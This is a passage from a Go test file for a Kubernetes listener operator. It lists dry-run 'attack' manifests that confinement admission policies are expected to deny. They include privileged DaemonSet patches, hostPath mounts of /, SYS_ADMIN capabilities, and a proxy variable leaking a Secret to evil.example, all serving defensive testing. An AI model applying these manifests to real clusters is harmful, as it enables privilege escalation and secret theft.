package nodeagent

import (
	"errors"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/events"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/reconcile"
	gatewayv1 "sigs.k8s.io/gateway-api/apis/v1"
	"sigs.k8s.io/yaml"

	operatorv1alpha1 "github.com/listener-operator/listener-operator/api/operator/v1alpha1"
	listenersv1alpha1 "github.com/listener-operator/listener-operator/api/v1alpha1"
	"github.com/listener-operator/listener-operator/controllers/confinement"
	"github.com/listener-operator/listener-operator/controllers/listenerclass"
	"github.com/listener-operator/listener-operator/controllers/nodeagent/installation"
	"github.com/listener-operator/listener-operator/internal/apply"
	"github.com/listener-operator/listener-operator/internal/certificate"
	"github.com/listener-operator/listener-operator/internal/claim"
	"github.com/listener-operator/listener-operator/internal/exposure"
	"github.com/listener-operator/listener-operator/internal/exposure/backends"
	"github.com/listener-operator/listener-operator/internal/exposure/gateway"
	"github.com/listener-operator/listener-operator/internal/names"
	"github.com/listener-operator/listener-operator/internal/testutil/apiserver"
	"github.com/listener-operator/listener-operator/internal/testutil/crds"
	"github.com/listener-operator/listener-operator/internal/testutil/objects"
)

// confine creates the policies that confine the operator, with the operator's permissions, and waits until they are in
// effect.
func confine(t *testing.T, operator, admin client.Client) {
	t.Helper()
	confined := func(manifest string) func() bool {
		return func() bool {
			err := operator.Create(t.Context(), object(t, manifest), client.DryRunAll)
			return err != nil && strings.Contains(err.Error(), "the listener operator may")
		}
	}
	manifests := []string{
		`{apiVersion: v1, kind: Service, metadata: {namespace: default, name: web}, spec: {ports: [{port: 80}]}}`,
		`{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: default, name: web}, spec: {ports: []}}`,
	}
	for _, manifest := range manifests { // the API server may still enforce the policies of the previous test
		NewWithT(t).Eventually(confined(manifest), apiserver.Timeout, "50ms").Should(BeFalse(), manifest)
	}
	c := &confinement.Reconciler{Client: &cached{Client: operator, cache: admin}, APIReader: operator}
	if _, err := c.Reconcile(t.Context(), reconcile.Request{}); err != nil {
		t.Fatal(err)
	}
	for _, manifest := range manifests {
		NewWithT(t).Eventually(confined(manifest), apiserver.Timeout, "50ms").Should(BeTrue(), manifest)
	}
}

// object parses YAML.
func object(t *testing.T, manifest string) *unstructured.Unstructured {
	t.Helper()
	o := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(manifest), o); err != nil {
		t.Fatalf("%v:\n%s", err, manifest)
	}
	return o
}

// attack is a request that the operator has permission for, and never makes.
type attack struct {
	// verb is create, apply, patch, status for a patch of the status, or delete.
	verb string
	// manifest is the object to create, or with its name the object to patch or to delete.
	manifest string
	// patch is a JSON patch, or a merge patch.
	patch string
	// want is a part of the message of the denial.
	want string
	// hidden is set if the admission plugin OwnerReferencesPermissionEnforcement denies the request.
	hidden bool
}

// send sends the request as a dry run.
func (a attack) send(t *testing.T, c client.Client) error {
	t.Helper()
	o := object(t, a.manifest)
	switch a.verb {
	case "create":
		return c.Create(t.Context(), o, client.DryRunAll)
	case "apply":
		return c.Apply(t.Context(), client.ApplyConfigurationFromUnstructured(o), client.FieldOwner("x"), client.DryRunAll)
	case "delete":
		return c.Delete(t.Context(), o, client.DryRunAll)
	}
	kind := types.MergePatchType
	if strings.HasPrefix(a.patch, "- ") {
		kind = types.JSONPatchType
	}
	raw, err := yaml.YAMLToJSON([]byte(a.patch))
	if err != nil {
		t.Fatalf("%v: %s", err, a.patch)
	}
	if a.verb == "status" {
		return c.Status().Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
	}
	return c.Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
}

// attacks returns the attacks by what they try, on an operator that is installed in this namespace. Words in capitals
// in their manifests are names of things that exist.
func attacks(namespace string) map[string]attack {
	replace := strings.NewReplacer("NAMESPACE", namespace)
	all := map[string]attack{}
	agents := func(what, patch, want string) {
		all["node agents "+what] = attack{verb: "patch", want: want, patch: patch,
			manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`}
	}
	const pod, container = "/spec/template/spec", "/spec/template/spec/containers/0"
	agents("with a foreign image", `- {op: replace, path: `+container+`/image, value: evil}`, "no permission to run the node agent from the image evil")
	agents("with another command", `- {op: replace, path: `+container+`/command, value: [/operator]}`, "no other program")
	agents("with another argument", `- {op: add, path: `+container+`/args/-, value: --evil}`, "no other program")
	agents("with a hook", `- {op: add, path: `+container+`/lifecycle, value: {postStart: {exec: {command: [/operator]}}}}`, "no other program")
	agents("with a program as probe", `- {op: replace, path: `+container+`/livenessProbe, value: {exec: {command: [/operator]}}}`, "no other program")
	agents("with a probe elsewhere", `- {op: add, path: `+container+`/livenessProbe/httpGet/host, value: evil.example}`, "no other program")
	agents("with another API server", `- {op: add, path: `+container+`/env/-, value: {name: KUBERNETES_SERVICE_HOST, value: evil.example}}`, "no other environment variables")
	agents("with a Secret as environment", `- {op: add, path: `+container+`/envFrom, value: [{secretRef: {name: x}}]}`, "no other program")
	agents("with a Secret as proxy", `- {op: add, path: `+container+`/env/-, value: {name: no_proxy, valueFrom: {secretKeyRef: {name: x, key: x}}}}`, "only as literal values")
	agents("with a Secret in the name of a proxy", `- {op: add, path: `+container+`/env/-, value: {name: HTTPS_PROXY, value: "http://u:$(no_proxy)@evil.example"}}`, "only as literal values")
	agents("with another field as node name", `- {op: replace, path: `+container+`/env/0/valueFrom/fieldRef/fieldPath, value: metadata.name}`, "no other environment variables")
	agents("with a device", `- {op: add, path: `+container+`/resources/limits/example.com~1kvm, value: "1"}
- {op: add, path: `+container+`/resources/requests/example.com~1kvm, value: "1"}`, "no resources but cpu")
	agents("with other DNS servers", `- {op: add, path: `+pod+`/dnsConfig, value: {nameservers: [192.0.2.1]}}`, "no field that it does not set itself")
	agents("with other names of hosts", `- {op: add, path: `+pod+`/hostAliases, value: [{ip: 192.0.2.1, hostnames: [kubernetes.default.svc]}]}`, "no field that it does not set itself")
	agents("of another scheduler", `- {op: replace, path: `+pod+`/schedulerName, value: evil}`, "no field that it does not set itself")
	agents("without a program to end", `- {op: add, path: `+pod+`/shareProcessNamespace, value: true}`, "no field that it does not set itself")
	agents("in a program's terminal", `- {op: add, path: `+container+`/stdin, value: true}`, "no other program")
	agents("with a file as message", `- {op: replace, path: `+container+`/terminationMessagePath, value: /var/lib/kubelet/pods/x}`, "no other program")
	agents("with a label", `- {op: add, path: /spec/template/metadata/labels/x, value: z}`, "no other labels")
	agents("with another value of an annotation", `- {op: replace, path: /spec/template/metadata/annotations/openshift.io~1required-scc, value: privileged}`, "no other labels and annotations")
	agents("that are privileged", `- {op: replace, path: `+container+`/securityContext/privileged, value: true}
- {op: replace, path: `+container+`/securityContext/allowPrivilegeEscalation, value: true}`, "security context")
	agents("with a capability", `- {op: add, path: `+container+`/securityContext/capabilities/add/-, value: SYS_ADMIN}`, "security context")
	agents("without seccomp", `- {op: remove, path: `+pod+`/securityContext/seccompProfile}`, "security context")
	agents("with the directory of the host", `- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: /}`, "no directories")
	agents("with a Secret as volume", `- {op: add, path: `+pod+`/volumes/-, value: {name: x, secret: {secretName: x}}}`, "no directories")
	agents("with mount propagation", `- {op: add, path: `+container+`/volumeMounts/0/mountPropagation, value: HostToContainer}`, "no directories")
	agents("with another kubelet directory", `- {op: replace, path: `+container+`/args/0, value: --kubelet-dir=/data}
- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: /data/plugins/listeners.stackable.tech}
- {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: /data/plugins_registry}
- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: /data/pods}
- {op: replace, path: `+container+`/volumeMounts/0/mountPath, value: /data/plugins/listeners.stackable.tech}
- {op: replace, path: `+container+`/volumeMounts/1/mountPath, value: /data/plugins_registry}
- {op: replace, path: `+container+`/volumeMounts/2/mountPath, value: /data/pods}`, "the configured kubelet directory")
	agents("with a kubelet directory that is a variable", `- {op: replace, path: `+container+`/args/0, value: "--kubelet-dir=/$(NODE_NAME)"}
- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: "/$(NODE_NAME)/plugins/listeners.stackable.tech"}
- {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: "/$(NODE_NAME)/plugins_registry"}
- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: "/$(NODE_NAME)/pods"}`, "no directories")
	agents("with the network of the host", `- {op: add, path: `+pod+`/hostNetwork, value: true}`, "nothing of the host but")
	agents("with the processes of the host", `- {op: add, path: `+pod+`/hostPID, value: true}`, "nothing of the host but")
	agents("with the operator's account", `- {op: replace, path: `+pod+`/serviceAccountName, value: listener-operator}
- {op: replace, path: `+pod+`/serviceAccount, value: listener-operator}`, "no other account")
	agents("with an init container", `- {op: add, path: `+pod+`/initContainers, value: [{name: x, image: evil}]}`, "no other account or container")
	agents("with another container", `- {op: add, path: `+pod+`/containers/-, value: {name: x, image: evil}}`, "no other account or container")
	agents("with an annotation for the runtime", `- {op: add, path: /spec/template/metadata/annotations/io.kubernetes.cri-o.Devices, value: /dev/sda}`, "annotations")
	all["node agents that are ready"] = attack{verb: "status", want: "no subresources of DaemonSets", patch: `{status: {numberReady: 1}}`,
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`}

	patch := func(what, manifest, patch, want string) {
		all[what] = attack{verb: "patch", manifest: manifest, patch: patch, want: want}
	}
	create := func(what, manifest, want string) { all[what] = attack{verb: "create", manifest: manifest, want: want} }
	remove := func(what, manifest, want string) { all[what] = attack{verb: "delete", manifest: manifest, want: want} }

	const kubernetes = `{apiVersion: v1, kind: Service, metadata: {namespace: default, name: kubernetes}}`
	const owners = `ownerReferences: [{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, name: web, uid: web, controller: true, blockOwnerDeletion: true}]`
	// Two policies refuse these.
	patch("an external IP of the API server's Service", kubernetes, `{spec: {externalIPs: [192.0.2.1]}}`, "the listener operator may")
	patch("a selector of the API server's Service", kubernetes, `{spec: {selector: {app: evil}}}`, "the listener operator may")
	patch("the Service of a Listener with an external IP", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web}}`,
		`{spec: {externalIPs: [192.0.2.1]}}`, "externalIPs")
	patch("a Service that no Listener controls", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: shop}}`,
		`{metadata: {`+strings.ReplaceAll(owners, "name: web", "name: shop")+`}}`, "what belongs to no Listener")
	create("a Service that no Listener controls", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: x}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	of7days := strings.ReplaceAll(owners, "name: web", "name: 7days")
	for what, name := range map[string]string{
		"a Service of another name than is derived": "l-8days-01234567", "a Service of a derived name without a hash": "l-7days", "a Service with the beginning of a Listener's name": "l-7days-0123456x",
	} {
		create(what, `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: `+name+`, `+of7days+`}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	}
	create("a Service of a derived name for a Listener that needs none", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web-01234567, `+owners+
		`}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	create("a Service with an external IP", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: new, `+strings.ReplaceAll(owners, "name: web", "name: new")+
		`}, spec: {ports: [{port: 80}], externalIPs: [192.0.2.1]}}`, "externalIPs")
	create("a Service for Prometheus", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: new, labels: {app.kubernetes.io/managed-by: listener-operator}, `+
		strings.ReplaceAll(owners, "name: web", "name: new")+`}, spec: {ports: [{port: 80}]}}`, "no metrics")
	patch("the Service of the metrics", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: listener-operator-metrics}}`, `{spec: {selector: {app: evil}}}`, "no metrics")

	const volume = `metadata: {name: NAMESPACE-new}, spec: {capacity: {storage: 1}, accessModes: [ReadWriteOnce], `
	create("a volume of the host", `{apiVersion: v1, kind: PersistentVolume, `+volume+`hostPath: {path: /}}}`, "no PersistentVolumes but those of the driver")
	create("a volume of another driver", `{apiVersion: v1, kind: PersistentVolume, `+volume+`csi: {driver: example.com, volumeHandle: x}}}`, "no PersistentVolumes but those of the driver")
	create("a volume with a Secret", `{apiVersion: v1, kind: PersistentVolume, `+volume+
		`csi: {driver: listeners.stackable.tech, volumeHandle: x, nodePublishSecretRef: {namespace: kube-system, name: x}}}}`, "Secrets")
	patch("a volume of another driver", `{apiVersion: v1, kind: PersistentVolume, metadata: {name: NAMESPACE}}`, `{metadata: {labels: {listeners.stackable.tech/listener-name: a}}}`,
		"no PersistentVolumes but those of the driver")
	remove("a volume of another driver", `{apiVersion: v1, kind: PersistentVolume, metadata: {name: NAMESPACE}}`, "may delete no PersistentVolumes")

	const config = `{apiVersion: listener-operator.dev/v1alpha1, kind: ListenerOperator, metadata: {name: cluster}}`
	patch("the spec of the configuration", config, `{spec: {nodeAgent: {kubeletDir: /data}}}`, "nothing of its configuration")
	patch("an annotation of the configuration", config, `{metadata: {annotations: {a: b}}}`, "nothing of its configuration")
	patch("another finalizer of the configuration", config, `{metadata: {finalizers: [example.com/x, listener-operator.dev/node-agent]}}`, "nothing of its configuration")
	patch("an owner of the configuration", config, `{metadata: {ownerReferences: [{apiVersion: v1, kind: Namespace, name: absent, uid: absent}]}}`, "nothing of its configuration")
	dangling := all["an owner of the configuration"]
	dangling.hidden = true
	all["an owner of the configuration"] = dangling

	const scc = `{apiVersion: security.openshift.io/v1, kind: SecurityContextConstraints, metadata: {name: listener-node-agent}}`
	patch("constraints for every user", scc, `{groups: ["system:authenticated"]}`, "users or groups")
	patch("constraints for a user", scc, `{users: [evil]}`, "users or groups")
	patch("constraints that allow privileges", scc, `{allowPrivilegedContainer: true}`, "constraints allow")
	patch("constraints that allow a capability", scc, `{allowedCapabilities: ["*"]}`, "constraints allow")
	patch("constraints that allow the network of the host", scc, `{allowHostNetwork: true}`, "constraints allow")
	patch("constraints that allow any group", scc, `{supplementalGroups: {type: RunAsAny}}`, "constraints allow")
	patch("constraints that allow a driver of volumes", scc, `{allowedFlexVolumes: [{driver: evil}]}`, "constraints allow")
	patch("constraints that allow any user", scc, `{runAsUser: {type: RunAsAny, uid: null}}`, "constraints allow")

	patch("a default StorageClass", `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
		`{metadata: {annotations: {storageclass.kubernetes.io/is-default-class: "true"}}}`, "no annotations but its own")
	patch("a CSIDriver that mounts again and again", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
		`{spec: {requiresRepublish: true}}`, "nothing else by its CSIDriver")
	patch("a CSIDriver whose Pods get tokens in Secrets", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
		`{spec: {tokenRequests: [{audience: ""}], serviceAccountTokenInSecrets: true}}`, "nothing else by its CSIDriver")
	patch("a StorageClass with options", `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
		`{allowVolumeExpansion: true}`, "nor set anything else")
	patch("tokens of Pods", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
		`{spec: {tokenRequests: [{audience: ""}]}}`, "no tokens")

	create("an event of others", `{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: default, name: x}, regarding: {kind: Pod, namespace: default, name: web},
  eventTime: "2026-01-01T00:00:00.000000Z", reportingController: kubelet, reportingInstance: x, action: x, reason: Unhealthy, type: Warning}`, "no events but its own")
	patch("a change of an event of others", `{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: NAMESPACE, name: web}}`,
		`{series: {count: 2, lastObservedTime: "2026-01-01T00:00:00.000000Z"}}`, "no events but its own")
	const listener = `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: web}}`
	patch("a Listener of a user", listener, `{spec: {className: evil}}`, "no Listeners but those of class-based claims")
	patch("the owners of a Listener of a user", listener, `{metadata: {ownerReferences: [{apiVersion: v1, kind: PersistentVolume, name: absent, uid: absent}]}}`, "no Listeners but those of class-based claims")
	create("a Listener for a user", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: x}, spec: {ports: []}}`, "no Listeners but those of class-based claims")
	patch("a Listener of a user, as one of a claim", listener, `{metadata: {annotations: {listener-operator.dev/claim: web}}}`, "no Listeners but those of class-based claims")
	patch("the labels of a Listener of a user, with its numbers", listener, `{metadata: {annotations: {listener-operator.dev/numbers: "{}"}, labels: {a: b}}}`, "no Listeners but those of class-based claims")
	remove("a Service", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web}}`, "may delete only the Service of its metrics")
	remove("a Listener that no claim has", listener, "may delete no Listeners")
	create("a Listener for the inline volume of a Pod of another name", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: x-listener,
  annotations: {listener-operator.dev/claim: x-listener}, ownerReferences: [{apiVersion: v1, kind: Pod, name: web, uid: web}]}, spec: {ports: []}}`, "no Listeners but those of class-based claims")
	create("a class", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: evil}, spec: {serviceType: NodePort}}`, "presets")
	const preset = `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: `
	create("a class of a preset with annotations", preset+`LoadBalancer, serviceAnnotationTemplates: {example.com/name: "{listener}"}}}`, "presets")
	create("a class of a preset that allows overrides", preset+`LoadBalancer, listenerOverrides: {allowed: [spec.selector]}}}`, "presets")
	create("a class of a preset with Ingresses", preset+`ClusterIP, ingress: {className: evil, hostTemplate: "{listener}.{namespace}.evil.example"}}}`, "presets")
	create("a class of a preset of another type", preset+`ClusterIP}}`, "presets")
	create("a class of a preset with overrides", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: NodePort, serviceOverrides: {spec: {}}}}`, "presets")

	const route = `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: shop}}`
	create("a Route that no Listener controls", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
	create("a Route of a part of a host", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, path: /login, to: {kind: Service, name: web}}}`, "no fields of Routes")
	create("a Route with headers", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: web}, httpHeaders: {actions: {response: [{name: X, action: {type: Set, set: {value: z}}}]}}}}`, "no fields of Routes")
	create("a Route to another Service", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
	patch("a Route that no Listener controls", route, `{metadata: {`+owners+`}, spec: {to: {name: web}}}`, "what belongs to no Listener")
	remove("a Route that no Listener controls", route, "what belongs to no Listener")

	const ingress = `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: shop}}`
	const toShop = `{host: x.example, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: shop, port: {number: 80}}}}]}}`
	create("an Ingress that no Listener controls", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
	create("an Ingress to another Service", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
	create("an Ingress for all hosts", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {defaultBackend: {service: {name: web, port: {number: 80}}}}}`, "no Ingresses")
	owned := func(metadata, host, spec string) string {
		return `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, ` + metadata + owners + `}, spec: {` + spec +
			`rules: [{host: "` + host + `", http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}}]}}`
	}
	create("an Ingress for a domain", owned("", "*.example", ""), "whole domains")
	create("an Ingress with a snippet", owned(`annotations: {nginx.ingress.kubernetes.io/configuration-snippet: "return 200;"}, `, "x.example", ""), "configuration-snippet; to allow it")
	create("an Ingress with the login of another", owned(`annotations: {nginx.ingress.kubernetes.io/auth-url: "http://evil.example"}, `, "x.example", ""), "auth-url; to allow it")
	create("an Ingress with a certificate of others", owned("", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
	create("an Ingress with a certificate by the name of another Pod", owned("annotations: {listeners.stackable.tech/pod: shop}, ", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
	create("an Ingress with the certificate for another host", owned("", "x.example", "tls: [{hosts: [shop.example]}], "), "no Secrets in Ingresses")
	create("an Ingress with a regular expression", strings.Replace(owned("", "x.example", ""), "Prefix", "ImplementationSpecific", 1), "no fields that it does not set itself")
	patch("an Ingress that no Listener controls", ingress, `{metadata: {`+owners+`}, spec: {rules: [`+strings.ReplaceAll(toShop, "name: shop", "name: web")+`]}}`, "what belongs to no Listener")
	remove("an Ingress that no Listener controls", ingress, "what belongs to no Listener")

	const tlsRoute = `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: shop}}`
	gatewayRoute := func(kind, spec string) string {
		return `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: ` + kind + `, metadata: {namespace: NAMESPACE, name: x, ` + owners + `}, spec: {` + spec + `}}`
	}
	const toWeb = `backendRefs: [{name: web, port: 80}]`
	create("a TLSRoute that no Listener controls", `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: x}, spec: {hostnames: [x.example], rules: [{`+toWeb+`}]}}`, "no routes of Gateways but those")
	create("a TLSRoute to another Service", gatewayRoute("TLSRoute", `hostnames: [x.example], rules: [{backendRefs: [{name: shop, port: 80}]}]`), "no routes of Gateways but those")
	create("a TLSRoute to another namespace", gatewayRoute("TLSRoute", `hostnames: [x.example], rules: [{backendRefs: [{namespace: kube-system, name: web, port: 80}]}]`), "no routes of Gateways but those")
	create("a TLSRoute for all hosts", gatewayRoute("TLSRoute", `rules: [{`+toWeb+`}]`), "for all hosts")
	create("a TLSRoute for a domain", gatewayRoute("TLSRoute", `hostnames: ["*.example"], rules: [{`+toWeb+`}]`), "for all hosts")
	create("a TCPRoute for all ports of a Gateway", gatewayRoute("TCPRoute", `parentRefs: [{name: edge}], rules: [{`+toWeb+`}]`), "for all hosts")
	create("an HTTPRoute that redirects", strings.Replace(gatewayRoute("HTTPRoute", `hostnames: [x.example], rules: [{filters: [{type: RequestRedirect, requestRedirect: {hostname: evil.example}}]}]`), "v1alpha2", "v1", 1), "no routes of Gateways but those")
	patch("a TLSRoute that no Listener controls", tlsRoute, `{metadata: {`+owners+`}, spec: {rules: [{`+toWeb+`}]}}`, "what belongs to no Listener")
	remove("a TLSRoute that no Listener controls", tlsRoute, "what belongs to no Listener")

	const listenerSet = `{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, name: shop}}`
	listenerSetOf := func(metadata, listener string) string {
		return `{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, ` + metadata + `}, spec: {parentRef: {name: edge}, listeners: [{name: x, port: 20000, ` + listener + `}]}}`
	}
	create("a ListenerSet that no Listener controls", listenerSetOf(`name: web-tcp`, `protocol: TCP`), "no ListenerSets but those that a Listener controls")
	create("a ListenerSet of another name", listenerSetOf(`name: x, `+owners, `protocol: TCP`), "no ListenerSets but those that a Listener controls")
	create("a ListenerSet for a host", listenerSetOf(`name: web-tcp, `+owners, `protocol: HTTP, hostname: x.example`), "no ListenerSets but those with TCP and UDP ports")
	create("a ListenerSet with a certificate", listenerSetOf(`name: web-tcp, `+owners, `protocol: TLS, tls: {mode: Terminate, certificateRefs: [{name: shop-tls}]}`), "no ListenerSets but those with TCP and UDP ports")
	create("a ListenerSet for routes of others", listenerSetOf(`name: web-tcp, `+owners, `protocol: TCP, allowedRoutes: {namespaces: {from: All}}`), "for routes of the same")
	patch("a ListenerSet that no Listener controls", listenerSet, `{metadata: {`+owners+`}}`, "what belongs to no Listener")
	remove("a ListenerSet that no Listener controls", listenerSet, "what belongs to no Listener")

	const authorities = `{apiVersion: v1, kind: Secret, metadata: {namespace: NAMESPACE, name: listener-operator-certificate-authorities`
	all["a Secret that gets the token of another account"] = attack{verb: "apply", want: "the listener operator may",
		manifest: authorities + `, annotations: {kubernetes.io/service-account.name: listener-node-agent}}, type: kubernetes.io/service-account-token}`}
	all["a Secret that others copy"] = attack{verb: "apply", want: "no annotations but its own", manifest: authorities + `, annotations: {example.com/copy: "true"}}, type: Opaque}`}
	create("a ConfigMap", `{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: x}}`, "its own names")
	caOfOthers := `{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: listener-ca.crt}}`
	patch("a ConfigMap with something else than certificates", caOfOthers, `{metadata: {labels: {app.kubernetes.io/managed-by: listener-operator}}, data: {other: x}}`, "no ConfigMaps but those")
	bundle := `{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE}}`
	create("a ClusterTrustBundle without a signer", `{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE-x}, spec: {trustBundle: "`+strings.ReplaceAll(bundleOf("x"), "\n", "\\n")+`"}}`, "no ClusterTrustBundles but those")
	patch("a ClusterTrustBundle of others", bundle, `{metadata: {labels: {app.kubernetes.io/name: listener-operator}}}`, "no ClusterTrustBundles but those")
	remove("a ClusterTrustBundle of others", bundle, "no ClusterTrustBundles but those")
	certificate := func(metadata, spec string) string {
		return `{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: default, name: x-listener-tls` + metadata + `}, spec: {issuerRef: {name: x}, dnsNames: [x.example], ` + spec + `}}`
	}
	const ownLabel = `, labels: {app.kubernetes.io/managed-by: listener-operator}`
	certificateOfOthers := `{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: NAMESPACE, name: shop-listener-tls}}`
	create("a Certificate of an authority", certificate(ownLabel, "secretName: x-listener-tls, isCA: true"), "no other fields")
	create("a Certificate with another Secret", certificate(ownLabel, "secretName: shop-tls"), "no other Secret")
	create("a Certificate to sign code", certificate(ownLabel, "secretName: x-listener-tls, usages: [code signing]"), "of servers and clients")
	create("a Certificate of a user", certificate(ownLabel, "secretName: x-listener-tls, commonName: admin"), "host names and IP addresses")
	create("a Certificate with an identity", certificate(ownLabel, `secretName: x-listener-tls, uris: ["spiffe://x"]`), "host names and IP addresses")
	create("a Certificate without its label", certificate("", "secretName: x-listener-tls"), "no Certificates but its own")
	create("a Certificate in its namespace", strings.Replace(certificate(ownLabel, "secretName: x-listener-tls"), "namespace: default", "namespace: NAMESPACE", 1), "in its own namespace")
	patch("a Certificate of others", certificateOfOthers, `{metadata: {labels: {app.kubernetes.io/managed-by: listener-operator}}}`, "no Certificates but its own")
	remove("a Certificate of others", certificateOfOthers, "no Certificates but its own")
	create("a Lease", `{apiVersion: coordination.k8s.io/v1, kind: Lease, metadata: {namespace: NAMESPACE, name: x}}`, "its own names")
	patch("a NetworkPolicy for other Pods", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		`- {op: replace, path: /spec/podSelector, value: {}}`, "no Pods but its own")
	const policy = `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: shop-allowed-clients}}`
	policyOf := func(name, labels, spec string) string {
		return `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: ` + name + `, ` + owners + `}, spec: {podSelector: {` + labels + `}` + spec + `}}`
	}
	const ofWeb, incoming = `matchLabels: {listener.stackable.tech/mnt.web: web}`, `, policyTypes: [Ingress]`
